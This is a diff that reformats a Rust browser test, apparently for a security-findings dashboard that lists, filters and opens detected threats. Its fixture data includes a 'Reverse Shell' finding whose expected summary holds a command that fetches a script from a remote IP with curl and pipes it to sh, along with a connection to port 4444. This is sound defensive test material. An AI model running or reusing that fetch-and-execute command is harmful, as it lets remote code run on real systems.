@@ -79,7 +79,8 @@ impl Browser {
     }
 
     fn find_all(&self, css: &str) -> Vec<String> {
-        let v = self.call("POST", &self.s("/elements"), Some(json!({ "using": "css selector", "value": css })));
+        let v =
+            self.call("POST", &self.s("/elements"), Some(json!({ "using": "css selector", "value": css })));
         v.as_array().unwrap().iter().map(|e| e[ELEMENT].as_str().unwrap().to_string()).collect()
     }
 
@@ -116,7 +117,13 @@ fn list_filter_and_open_a_finding() {
     let shell = finding("Reverse Shell", "CRITICAL", "api", "i-1", "2026-11-20T10:00:00Z");
     let others = [
         finding("Added Binary Executed", "LOW", "api", "i-1", "2026-11-20T10:01:00Z"),
-        finding("Execution: Program Run from Temporary Directory", "MEDIUM", "worker", "i-2", "2026-11-20T10:02:00Z"),
+        finding(
+            "Execution: Program Run from Temporary Directory",
+            "MEDIUM",
+            "worker",
+            "i-2",
+            "2026-11-20T10:02:00Z",
+        ),
         finding("Added Binary Executed", "LOW", "worker", "i-2", "2026-11-20T10:03:00Z"),
     ];
     let mut all = vec![shell.clone()];
@@ -142,7 +149,10 @@ fn list_filter_and_open_a_finding() {
     let id = shell["findingId"].as_str().unwrap();
     assert!(browser.url().ends_with(&format!("/findings/{id}")), "{}", browser.url());
     let summary = browser.text("#summary");
-    assert!(summary.contains("Reverse Shell: /bin/sh -c 'curl http://203.0.113.7/x | sh' in api"), "{summary}");
+    assert!(
+        summary.contains("Reverse Shell: /bin/sh -c 'curl http://203.0.113.7/x | sh' in api"),
+        "{summary}"
+    );
     assert!(browser.text("#process-tree").contains("/usr/bin/python3.11: python3 app.py"));
     assert!(browser.text("#connections").contains("203.0.113.7:4444"));
     assert!(browser.text("#script").contains("uname -a"));
